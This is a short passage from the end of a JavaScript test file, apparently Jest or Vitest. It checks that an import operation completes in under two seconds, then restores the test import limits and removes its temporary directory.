        expect(performance.now() - t0).toBeLessThan(2000);
      }
    } finally {
      setImportLimitsForTests(TEST_LIMITS);
      cleanup();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
